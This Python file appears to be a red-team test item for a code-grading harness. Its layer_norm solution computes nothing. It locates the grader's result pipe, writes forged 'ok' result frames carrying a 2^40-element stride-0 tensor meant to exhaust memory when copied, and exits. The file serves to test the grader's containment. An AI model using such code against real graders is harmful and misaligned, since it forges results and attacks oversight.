"""Class: 12
Problem: layer-norm
Goal: crash
Scan: off
Attempt: well-formed result frames, written by the child itself to its result pipe, each
carrying a stride-0 (expanded) view of 2^40 elements over one element: a few bytes on the wire, a terabyte once the grader copies it.
Contained: the grader gives a verdict and does not crash.
"""
import torch

import json
import os
import struct


def _result_fd():
    """The result pipe: the one descriptor past stdin/out/err that is a pipe."""
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        fd = int(name)
        try:
            if fd > 2 and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                return fd
        except OSError:
            pass
    return None


def _frame(header, payload=b""):
    head = json.dumps(header).encode()
    return struct.pack("!I", len(head)) + head + struct.pack("!Q", len(payload)) + payload


def _send_results(value, n=11):
    import io
    buf = io.BytesIO()
    torch.save({"output": value}, buf)
    fd = _result_fd()
    data = b"".join(_frame({"event": "result", "case": i, "status": "ok"}, buf.getvalue()) for i in range(n))
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]


def layer_norm(x, eps=1e-5):
    _send_results(torch.zeros(1).expand(2 ** 40))
    os._exit(0)
